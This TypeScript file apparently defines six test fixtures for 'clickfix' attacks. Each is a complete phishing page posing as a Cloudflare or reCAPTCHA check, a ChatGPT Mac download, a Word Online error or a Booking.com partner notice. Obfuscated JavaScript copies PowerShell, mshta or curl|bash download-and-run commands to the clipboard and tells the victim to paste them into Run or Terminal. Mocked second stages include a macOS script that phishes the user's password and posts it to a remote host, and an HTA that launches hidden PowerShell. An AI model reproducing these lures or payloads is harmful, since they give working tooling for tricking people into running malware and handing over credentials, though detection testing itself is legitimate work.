import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { fileRoute, jsRoute } from '../parts/e-bin.js';

// ---------- 1. Turnstile-look "verify you are human" -> Win+R, PowerShell iwr|iex ----------
const t1Host = 'www.freshrecipes-kitchenhub.com';
const t1Page = `<!DOCTYPE html>
<html lang="en-US">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width,initial-scale=1">
<title>Just a moment...</title>
<style>
*{box-sizing:border-box}body{margin:0;font-family:system-ui,-apple-system,"Segoe UI",Roboto,Arial,sans-serif;color:#313131;background:#fff}
.main{max-width:60rem;margin:8rem auto 0;padding:0 1.5rem}
h1{font-size:2.5rem;font-weight:500;margin:0 0 .5rem}h2{font-size:1.5rem;font-weight:500;margin:0 0 2rem;color:#313131}
.cb{width:300px;height:65px;border:1px solid #e0e0e0;background:#fafafa;display:flex;align-items:center;padding:0 14px;gap:12px;border-radius:3px}
.cb input{width:26px;height:26px;cursor:pointer}.cb .brand{margin-left:auto;font-size:10px;color:#666;text-align:right}
.cb .brand b{display:block;color:#f38020;font-size:12px}
p.sm{margin-top:2rem;font-size:15px}
.foot{position:fixed;bottom:0;left:0;right:0;text-align:center;font-size:12px;padding:12px;border-top:1px solid #eee;color:#666}
.modal{position:fixed;inset:0;background:rgba(0,0,0,.45);display:none;align-items:center;justify-content:center}
.box{background:#fff;width:520px;border-radius:6px;padding:24px 28px;box-shadow:0 8px 40px rgba(0,0,0,.3)}
.box h3{margin-top:0}.box ol{padding-left:20px;line-height:2}
kbd{border:1px solid #bbb;border-bottom-width:3px;border-radius:4px;padding:1px 7px;background:#f7f7f7;font-family:inherit}
.box .id{font-size:12px;color:#888;margin-top:10px}
.spin{display:inline-block;width:18px;height:18px;border:3px solid #ddd;border-top-color:#f38020;border-radius:50%;animation:s 1s linear infinite;vertical-align:middle}@keyframes s{to{transform:rotate(360deg)}}
</style>
</head>
<body>
<div class="main">
 <h1>www.freshrecipes-kitchenhub.com</h1>
 <h2>Verify you are human by completing the action below.</h2>
 <div class="cb" id="cb"><input type="checkbox" id="chk"><span id="lbl">Verify you are human</span><div class="brand"><b>CLOUDFLARE</b>Privacy &middot; Terms</div></div>
 <p class="sm">www.freshrecipes-kitchenhub.com needs to review the security of your connection before proceeding.</p>
</div>
<div class="modal" id="m"><div class="box">
 <h3>Verification Steps</h3>
 <ol><li>Press <kbd>&#8862; Windows</kbd> + <kbd>R</kbd></li><li>In the verification window, press <kbd>Ctrl</kbd> + <kbd>V</kbd></li><li>Press <kbd>Enter</kbd> on your keyboard to finish</li></ol>
 <p>You will observe and agree: <i>"I am not a robot – reCAPTCHA Verification ID: <span id="vid"></span>"</i></p>
 <div class="id"><span class="spin"></span> Waiting for verification&hellip;</div>
</div></div>
<div class="foot">Ray ID: <span id="ray"></span> &middot; Performance &amp; security by Cloudflare</div>
<script src="/cdn-cgi/challenge-platform/h/b/orchestrate/chl_page/v1.js"></script>
</body>
</html>`;
const t1Js = `(function(){var id=Math.floor(1000+Math.random()*9000);document.getElementById('vid').textContent=id;
document.getElementById('ray').textContent=(Math.random().toString(16).slice(2,18));
var c='powershell -w h -nop -c "iex(iwr \\'https://kitchenhub-cdn.com/cf/v.txt\\' -UseBasicParsing)"';
var tail=' # \\u2705 \\'\\'I am not a robot - reCAPTCHA Verification ID: '+id+'\\'\\'';
function cp(t){if(navigator.clipboard&&navigator.clipboard.writeText){navigator.clipboard.writeText(t).catch(function(){fb(t)})}else fb(t)}
function fb(t){var a=document.createElement('textarea');a.value=t;a.style.position='fixed';a.style.opacity='0';document.body.appendChild(a);a.select();try{document.execCommand('copy')}catch(e){}a.remove()}
document.getElementById('chk').addEventListener('click',function(){cp(c+tail);document.getElementById('lbl').innerHTML='<span class="spin"></span> Verifying...';setTimeout(function(){document.getElementById('m').style.display='flex'},900);
fetch('/cdn-cgi/ev?id='+id,{method:'POST'}).catch(function(){})});})();`;

// ---------- 2. reCAPTCHA-look -> mshta (command stored reversed + base64) ----------
const t2Host = 'docs.shareplus-files.net';
const t2Cmd = 'mshta https://verify.captcha-cloudcheck.com/r/a4f2.hta # I am not a robot - Cloudflare Verification ID: 51872';
const t2Enc = Buffer.from(t2Cmd.split('').reverse().join(''), 'utf8').toString('base64');
const t2Page = `<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width,initial-scale=1">
<title>Shared document – verification required</title>
<style>
body{margin:0;background:#f1f3f4;font-family:Roboto,Arial,sans-serif}
.bg{position:fixed;inset:0;filter:blur(6px);background:#fff;padding:40px}.bg div{height:14px;background:#e0e0e0;margin:12px 0;border-radius:3px}
.rc{position:fixed;left:50%;top:40%;transform:translate(-50%,-50%);width:304px;background:#f9f9f9;border:1px solid #d3d3d3;border-radius:3px;box-shadow:0 0 4px 1px rgba(0,0,0,.08);padding:0}
.rc .row{display:flex;align-items:center;height:74px;padding:0 12px}
.rc .ck{width:24px;height:24px;border:2px solid #c1c1c1;border-radius:2px;background:#fff;cursor:pointer}
.rc .t{margin-left:12px;font-size:14px;color:#000}
.rc .lg{margin-left:auto;text-align:center;font-size:10px;color:#555}.rc .lg i{display:block;width:32px;height:32px;margin:0 auto 2px;background:conic-gradient(#4a90e2 0 33%,#aaa 0 66%,#1c3aa9 0);border-radius:50%}
.pop{position:fixed;left:50%;top:40%;transform:translate(-50%,-50%);width:400px;background:#fff;border:1px solid #ccc;box-shadow:0 2px 12px rgba(0,0,0,.25);display:none}
.pop .h{background:#1a73e8;color:#fff;padding:16px;font-size:18px}.pop .b{padding:16px;font-size:14px;line-height:1.8}
.pop .f{border-top:1px solid #eee;padding:10px 16px;text-align:right}.pop button{background:#1a73e8;color:#fff;border:0;padding:8px 20px;border-radius:2px}
</style>
</head>
<body>
<div class="bg"><div style="width:40%"></div><div></div><div></div><div style="width:70%"></div><div></div><div style="width:55%"></div></div>
<div class="rc" id="rc"><div class="row"><div class="ck" id="ck"></div><div class="t">I'm not a robot</div><div class="lg"><i></i>reCAPTCHA<br>Privacy - Terms</div></div></div>
<div class="pop" id="pop"><div class="h">Complete these Verification Steps</div><div class="b">To better prove you are not a robot, please:<br>1. Press &amp; hold the Windows Key <b>&#8862;</b> + <b>R</b>.<br>2. In the verification window, press <b>Ctrl + V</b>.<br>3. Press <b>Enter</b> on your keyboard to finish.<br><br>You will observe and agree:<br><code>✅ "I am not a robot - Cloudflare Verification ID: 51872"</code></div><div class="f"><button id="vb">Verify</button></div></div>
<script>
var _k="${t2Enc}";
function _d(){return decodeURIComponent(escape(atob(_k))).split('').reverse().join('')}
document.getElementById('ck').onclick=function(){var t=document.createElement('textarea');t.value=_d();document.body.appendChild(t);t.select();document.execCommand('copy');t.remove();
this.style.borderColor='#4a90e2';document.getElementById('rc').style.display='none';document.getElementById('pop').style.display='block'};
document.getElementById('vb').onclick=function(){alert('Verification failed. Please follow the steps and try again.')};
</script>
</body>
</html>`;
const htaStub = `<html><head><HTA:APPLICATION SHOWINTASKBAR="no" WINDOWSTATE="minimize"/><script language="JScript">var s=new ActiveXObject("WScript.Shell");s.Run("powershell -w h -ep bypass -c \\"iex(irm 'https://captcha-cloudcheck.com/s/l.ps1')\\"",0);window.close();</script></head></html>`;

// ---------- 3. macOS: fake desktop-app download page -> Terminal, base64 | bash ----------
const t3Host = 'chatgpt-desktop-mac.app-download.io';
const t3Inner = '/bin/bash -c "$(curl -fsSL https://mac-app-cdn.app-download.io/install.sh)"';
const t3Cmd = `echo "${Buffer.from(t3Inner).toString('base64')}" | base64 -d | bash`;
const t3Page = `<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width,initial-scale=1">
<title>ChatGPT for macOS – Download the Desktop App</title>
<style>
body{margin:0;font-family:-apple-system,"SF Pro Display",Helvetica,Arial,sans-serif;background:#fff;color:#0d0d0d}
nav{display:flex;align-items:center;padding:18px 6vw}nav b{font-size:18px}nav a{margin-left:24px;color:#555;text-decoration:none;font-size:14px}
.hero{text-align:center;padding:70px 20px 40px}.hero h1{font-size:52px;margin:0;letter-spacing:-1px}.hero p{color:#666;font-size:19px}
.term{max-width:700px;margin:30px auto;background:#1e1e1e;border-radius:10px;overflow:hidden;text-align:left}
.term .tb{background:#2d2d2d;padding:8px 12px}.term .tb i{display:inline-block;width:12px;height:12px;border-radius:50%;margin-right:6px;background:#ff5f56}.term .tb i:nth-child(2){background:#ffbd2e}.term .tb i:nth-child(3){background:#27c93f}
.term pre{margin:0;padding:18px;color:#d4d4d4;font-size:13px;white-space:pre-wrap;word-break:break-all}
.cp{background:#0d0d0d;color:#fff;border:0;border-radius:22px;padding:12px 26px;font-size:15px;cursor:pointer}
.steps{max-width:700px;margin:0 auto;text-align:left;font-size:15px;line-height:1.8;color:#333}
kbd{background:#f2f2f2;border:1px solid #ccc;border-radius:4px;padding:0 6px}
.note{font-size:13px;color:#888}
footer{text-align:center;color:#aaa;font-size:12px;padding:40px}
</style>
</head>
<body>
<nav><b>ChatGPT</b><a href="#">Research</a><a href="#">Products</a><a href="#">Business</a><a href="#">Download</a></nav>
<section class="hero">
 <h1>ChatGPT for Mac</h1>
 <p>Chat about email, screenshots, files and anything on your screen. Requires macOS 14+ and Apple silicon.</p>
 <div class="term"><div class="tb"><i></i><i></i><i></i></div><pre id="pre">$ ${t3Cmd.replace(/"/g, '&quot;')}</pre></div>
 <button class="cp" id="cp">Copy install command</button>
 <div class="steps">
  <p><b>Install in 3 steps:</b></p>
  <p>1. Press <kbd>&#8984; Command</kbd> + <kbd>Space</kbd>, type <b>Terminal</b> and press <kbd>Return</kbd>.<br>2. Paste the command with <kbd>&#8984;</kbd> + <kbd>V</kbd> and press <kbd>Return</kbd>.<br>3. Enter your Mac password when asked so the installer can add ChatGPT to Applications.</p>
  <p class="note">The App Store version is being updated. The Terminal installer always installs the latest signed build.</p>
 </div>
</section>
<footer>© 2025 ChatGPT Desktop · Terms · Privacy</footer>
<script>
document.getElementById('cp').onclick=function(){var t=document.getElementById('pre').textContent.replace(/^\\$ /,'');navigator.clipboard.writeText(t).then(function(){document.getElementById('cp').textContent='Copied! Now paste it in Terminal'})};
if(!/Mac/.test(navigator.platform)){document.querySelector('.note').insertAdjacentHTML('beforeend',' Windows version coming soon.')}
</script>
</body>
</html>`;
const t3Sh = `#!/bin/bash
# ChatGPT installer
U=$(whoami)
P=$(osascript -e 'text returned of (display dialog "ChatGPT needs your password to complete the installation:" default answer "" with hidden answer with icon caution with title "System Preferences")')
curl -s -X POST -F "u=$U" -F "p=$P" https://mac-app-cdn.app-download.io/p
curl -fsSL -o /tmp/.chatgpt https://mac-app-cdn.app-download.io/bin/update && xattr -c /tmp/.chatgpt && chmod +x /tmp/.chatgpt && /tmp/.chatgpt "$P" &
`;

// ---------- 4. Word Online "can't display" -> Win+X PowerShell (Admin), -EncodedCommand style ----------
const t4Host = 'word-online.docviewer-365.com';
const t4Ps = "$u='https://docviewer-365.com/fix/upd.ps1';$f=\"$env:TEMP\\wupd.ps1\";Invoke-WebRequest $u -OutFile $f;powershell -ep bypass -w hidden -f $f";
const t4Enc = Buffer.from(t4Ps, 'utf16le').toString('base64');
const t4Page = `<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width,initial-scale=1">
<title>Contract_Amendment_Q4.docx - Microsoft Word Online</title>
<style>
body{margin:0;font-family:"Segoe UI",Tahoma,sans-serif;background:#f3f2f1;color:#323130}
.rb{background:#185abd;color:#fff;height:48px;display:flex;align-items:center;padding:0 16px;gap:14px}.rb b{font-size:16px}
.tabs{background:#fff;border-bottom:1px solid #e1dfdd;padding:8px 16px;font-size:13px}.tabs span{margin-right:18px}
.doc{max-width:816px;margin:24px auto;background:#fff;min-height:600px;box-shadow:0 0 4px rgba(0,0,0,.1);padding:60px;filter:blur(3px)}
.doc p{height:12px;background:#ddd;margin:14px 0}
.err{position:fixed;left:50%;top:45%;transform:translate(-50%,-50%);width:500px;background:#fff;border-top:4px solid #a4262c;box-shadow:0 6px 30px rgba(0,0,0,.25);padding:22px 26px}
.err h3{margin:0 0 8px;color:#a4262c}
.err ol{line-height:1.9;padding-left:20px}
.err button{background:#185abd;color:#fff;border:0;padding:9px 20px;font-size:14px}
kbd{border:1px solid #aaa;border-radius:3px;padding:0 5px;background:#f5f5f5}
</style>
</head>
<body>
<div class="rb"><span>&#9783;</span><b>Word</b><span style="opacity:.85">Contract_Amendment_Q4.docx</span></div>
<div class="tabs"><span>File</span><span>Home</span><span>Insert</span><span>Layout</span><span>Review</span><span>View</span></div>
<div class="doc"><p style="width:50%"></p><p></p><p></p><p style="width:80%"></p><p></p><p></p><p style="width:60%"></p></div>
<div class="err">
 <h3>&#9888; Word Online extension is not installed</h3>
 <p>The document cannot be displayed because the "Word Online" browser component is missing or corrupted. To view the document offline, install the fix:</p>
 <button id="fix">How to fix</button>
 <div id="steps" style="display:none">
  <ol><li>Right-click the Start button or press <kbd>Win</kbd> + <kbd>X</kbd></li><li>Select <b>Windows PowerShell (Admin)</b> or <b>Terminal (Admin)</b></li><li>Right-click inside the window (or press <kbd>Ctrl</kbd>+<kbd>V</kbd>) to paste the fix, then press <kbd>Enter</kbd></li><li>Refresh this page</li></ol>
  <small>The fix has been copied to your clipboard.</small>
 </div>
</div>
<script>
(function(){var p=['powershell',' -nop',' -w',' hidden',' -EncodedCommand ','${t4Enc}'];
document.getElementById('fix').onclick=function(){navigator.clipboard.writeText(p.join('')).then(function(){document.getElementById('steps').style.display='block'},function(){document.getElementById('steps').style.display='block'})};})();
</script>
</body>
</html>`;

// ---------- 5. German fake CAPTCHA, command assembled from char codes, hidden textarea copy ----------
const t5Host = 'www.autoteile-grosshandel-nrw.de';
const t5Cmd = 'cmd /c start /min powershell -w 1 -ep bypass -c "$w=New-Object Net.WebClient;$s=$w.DownloadString(\'https://teile-cdn.de/k/c.txt\');iex $s" :: Ich bin kein Roboter - Bestätigungs-ID 7731';
const t5Codes = Array.from(t5Cmd).map((c) => c.charCodeAt(0) + 7);
const t5Page = `<!DOCTYPE html>
<html lang="de">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width,initial-scale=1">
<title>Sicherheitsüberprüfung</title>
<style>
body{margin:0;font-family:Arial,Helvetica,sans-serif;background:#eceff1;color:#263238;display:flex;align-items:center;justify-content:center;min-height:100vh}
.c{background:#fff;width:440px;border-radius:8px;box-shadow:0 4px 20px rgba(0,0,0,.1);padding:26px}
.c h2{margin-top:0;font-size:20px}
.v{display:flex;align-items:center;gap:12px;border:1px solid #cfd8dc;border-radius:4px;padding:14px;background:#fafafa;cursor:pointer}
.v .b{width:22px;height:22px;border:2px solid #90a4ae;border-radius:3px}
.st{display:none;margin-top:16px;background:#fff8e1;border:1px solid #ffca28;border-radius:4px;padding:12px 16px;font-size:14px;line-height:1.8}
kbd{background:#eee;border:1px solid #bbb;border-bottom-width:2px;border-radius:3px;padding:0 6px}
small{display:block;margin-top:14px;color:#78909c}
</style>
</head>
<body>
<div class="c">
 <h2>Bestätigen Sie, dass Sie ein Mensch sind</h2>
 <p>Wir haben ungewöhnlichen Datenverkehr von Ihrem Netzwerk festgestellt. Bitte bestätigen Sie, dass Sie kein Roboter sind, um fortzufahren.</p>
 <div class="v" id="v"><div class="b" id="bx"></div><span>Ich bin kein Roboter</span></div>
 <div class="st" id="st"><b>Zur Bestätigung bitte folgende Schritte ausführen:</b><br>1. Drücken Sie <kbd>Windows</kbd> + <kbd>R</kbd><br>2. Drücken Sie <kbd>Strg</kbd> + <kbd>V</kbd><br>3. Drücken Sie <kbd>Enter</kbd><br>Die Überprüfung wird danach automatisch abgeschlossen.</div>
 <small>Schutz durch Captcha-Dienst &middot; Datenschutz &middot; Nutzungsbedingungen</small>
</div>
<textarea id="t" style="position:absolute;left:-9999px;top:0" aria-hidden="true"></textarea>
<script>
var _c=${JSON.stringify(t5Codes)};
document.getElementById('v').addEventListener('click',function(){var s='';for(var i=0;i<_c.length;i++)s+=String.fromCharCode(_c[i]-7);var t=document.getElementById('t');t.value=s;t.select();document.execCommand('copy');
document.getElementById('bx').style.background='#43a047';document.getElementById('st').style.display='block';
new Image().src='/stat/c.gif?s=1&r='+Date.now()});
</script>
</body>
</html>`;

// ---------- 6. Booking-style guest complaint lure for hotel staff -> fake captcha, conhost --headless ----------
const t6Host = 'admin.booking-extranet-guestreview.com';
const t6Page = `<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width,initial-scale=1">
<title>Booking.com Extranet – Guest review #4471982 requires your response</title>
<style>
body{margin:0;font-family:BlinkMacSystemFont,-apple-system,"Segoe UI",Roboto,Arial,sans-serif;background:#f5f5f5;color:#1a1a1a}
.hd{background:#003580;color:#fff;padding:14px 24px;display:flex;align-items:center;gap:14px}.hd b{font-size:20px}.hd b i{color:#009fe3;font-style:normal}
.sub{background:#fff;border-bottom:1px solid #e7e7e7;padding:10px 24px;font-size:14px;color:#474747}
.w{max-width:760px;margin:24px auto;background:#fff;border:1px solid #e7e7e7;border-radius:8px;padding:24px}
.rv{background:#fff0f0;border-left:4px solid #cc0000;padding:12px 16px;margin:14px 0;font-size:14px;line-height:1.5}
.cap{margin-top:18px;border:1px solid #d4d4d4;border-radius:4px;display:flex;align-items:center;gap:12px;padding:14px;width:300px;background:#f9f9f9;cursor:pointer}
.cap span.b{width:22px;height:22px;border:2px solid #aaa;background:#fff}
.ov{position:fixed;inset:0;background:rgba(0,0,0,.5);display:none;align-items:center;justify-content:center}
.ov .p{background:#fff;width:480px;border-radius:8px;padding:22px 26px;line-height:1.8}
kbd{border:1px solid #aaa;border-radius:3px;padding:0 6px;background:#f4f4f4}
</style>
</head>
<body>
<div class="hd"><b>Booking<i>.com</i></b><span>for Partners &middot; Extranet</span></div>
<div class="sub">Property: Hotel ID 2271908 &middot; Guest messages &middot; Reviews</div>
<div class="w">
 <h2 style="margin-top:0">A guest has reported a serious issue during their stay</h2>
 <p>Reservation <b>4471982031</b> &middot; Guest: Daniela M. &middot; Check-in 12 Nov</p>
 <div class="rv">"I found bedbugs in room 214 and the staff refused to help. I have photos and I am requesting a full refund. If this is not resolved I will post the photos on every platform."</div>
 <p>You must respond within 24 hours, otherwise Booking.com may issue a refund at the property's expense and lower your review score. To view the guest's photos, please confirm you are not a robot.</p>
 <div class="cap" id="cap"><span class="b"></span>I'm not a robot</div>
</div>
<div class="ov" id="ov"><div class="p"><b>Security check</b><br>To confirm your identity as the property owner:<br>1. Press <kbd>Win</kbd> + <kbd>R</kbd><br>2. Paste with <kbd>Ctrl</kbd> + <kbd>V</kbd><br>3. Press <kbd>Enter</kbd><br><small>Partner verification ID: BKG-<span id="pid"></span></small></div></div>
<script src="/assets/captcha.min.js"></script>
</body>
</html>`;
const t6Cmd = `conhost.exe --headless powershell -ep bypass -c "iex(irm 'https://extranet-auth-check.com/bk/v')" # Booking Partner verification`;
const t6B64 = Buffer.from(t6Cmd, 'utf8').toString('base64');
const t6Parts: string[] = [];
for (let i = 0; i < t6B64.length; i += 12) t6Parts.push(t6B64.slice(i, i + 12));
const t6Order = t6Parts.map((_, i) => i).sort((a, b) => ((a * 7 + 3) % 11) - ((b * 7 + 3) % 11) || a - b);
const t6Js = `!function(){var a=${JSON.stringify(t6Order.map((i) => t6Parts[i]))},o=${JSON.stringify(t6Order)};
function b(){var r=[];for(var i=0;i<o.length;i++)r[o[i]]=a[i];return atob(r.join(''))}
var pid=Math.floor(1e5+Math.random()*9e5);document.getElementById('pid').textContent=pid;
document.getElementById('cap').onclick=function(){var s;try{s=b()}catch(e){s=''}navigator.clipboard.writeText(s+' '+pid).catch(function(){});document.getElementById('ov').style.display='flex'};}();`;

export const entries: Entry[] = [
  {
    id: 'e-cf-captcha-powershell-winr',
    label: 'clickfix',
    kind: 'fake-captcha',
    url: `https://${t1Host}/recipes/one-pot-creamy-tuscan-chicken/`,
    body: t1Page,
    routes: {
      [`${t1Host}/cdn-cgi/challenge-platform/h/b/orchestrate/chl_page/v1.js`]: jsRoute(t1Js),
      [`${t1Host}/cdn-cgi/ev`]: { status: 204, headers: {}, body: '' },
      'kitchenhub-cdn.com/cf/v.txt': { status: 200, headers: { 'content-type': 'text/plain' }, body: "$d=\"$env:APPDATA\\svc\";mkdir $d -ea 0;iwr 'https://kitchenhub-cdn.com/cf/p.zip' -OutFile \"$d\\p.zip\";Expand-Archive \"$d\\p.zip\" $d -Force;Start-Process \"$d\\client32.exe\"" },
    },
  },
  {
    id: 'e-cf-recaptcha-mshta',
    label: 'clickfix',
    kind: 'fake-captcha',
    url: `https://${t2Host}/view/d/Q3-Financials.pdf`,
    body: t2Page,
    routes: { 'verify.captcha-cloudcheck.com/r/a4f2.hta': fileRoute(htaStub, 'application/hta') },
  },
  {
    id: 'e-cf-macos-terminal-curl',
    label: 'clickfix',
    kind: 'terminal-paste-macos',
    url: 'https://search-ads.click-track.io/r?q=chatgpt+mac+download',
    routes: {
      'search-ads.click-track.io/r': redirectRoute(302, `https://${t3Host}/download/macos`),
      [`${t3Host}/download/macos`]: htmlRoute(t3Page),
      'mac-app-cdn.app-download.io/install.sh': fileRoute(t3Sh, 'text/plain'),
    },
  },
  {
    id: 'e-cf-word-fix-winx',
    label: 'clickfix',
    kind: 'fix-the-error',
    url: `https://${t4Host}/view.aspx?src=Contract_Amendment_Q4.docx&wdOrigin=OUTLOOK`,
    routes: { [`${t4Host}/view.aspx`]: htmlRoute(t4Page) },
  },
  {
    id: 'e-cf-captcha-charcode-de',
    label: 'clickfix',
    kind: 'fake-captcha',
    url: `https://${t5Host}/pruefung/?next=%2Fkatalog%2Fbremsen`,
    body: t5Page,
    routes: { [`${t5Host}/stat/c.gif`]: { status: 200, headers: { 'content-type': 'image/gif' }, body: Buffer.from('R0lGODlhAQABAAAAACw=', 'base64') } },
  },
  {
    id: 'e-cf-hotel-guest-review',
    label: 'clickfix',
    kind: 'fake-captcha',
    url: `https://${t6Host}/hotel/hoteladmin/extranet_ng/manage/review.html?hotel_id=2271908&rid=4471982`,
    routes: {
      [`${t6Host}/hotel/hoteladmin/extranet_ng/manage/review.html`]: htmlRoute(t6Page),
      [`${t6Host}/assets/captcha.min.js`]: jsRoute(t6Js),
    },
  },
];
